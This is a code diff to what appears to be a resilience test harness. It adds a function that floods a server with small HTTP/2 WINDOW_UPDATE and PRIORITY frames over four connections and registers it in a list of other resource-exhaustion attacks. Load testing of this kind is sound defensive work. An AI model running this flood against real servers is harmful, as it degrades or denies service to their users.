@@ -293,6 +293,26 @@ def endless_heads(_):
     return lambda: [s.close() for s in held]
 
 
+def frame_floods(_):
+    """4 connections that send small frames of HTTP/2 without a pause."""
+    floods = [struct.pack(">I", 4)[1:] + b"\x08\x00" + struct.pack(">II", 0, 1),  # WINDOW_UPDATE
+              struct.pack(">I", 5)[1:] + b"\x02\x00" + struct.pack(">I", 1) + b"\x00\x00\x00\x00\x10"]  # PRIORITY
+
+    def work(stop, at=[0]):
+        at[0] += 1
+        block = floods[at[0] % 2] * 2000
+        while not stop.is_set():
+            try:
+                with socket.create_connection(ADDRESS, timeout=3) as s:
+                    s.sendall(PREFACE)
+                    while not stop.is_set():
+                        s.sendall(block)
+            except OSError:
+                time.sleep(0.01)
+
+    return threads(4, work)
+
+
 def bus_crowds(attacker):
     """As many connections and equal subscriptions to the broker as there may be, none of which is read."""
     held = []
@@ -335,7 +355,7 @@ def bus_strangers(_):
 
 
 ATTACKS = [idle_http2, half_heads, endless_heads, dear_queries, long_lists, fragment_bomb, readers_that_do_not_read,
-           websockets, sign_ins, bus_crowds, bus_leavers, bus_strangers]
+           websockets, sign_ins, frame_floods, bus_crowds, bus_leavers, bus_strangers]
 
 
 def measured(victim_user, seconds, begin):
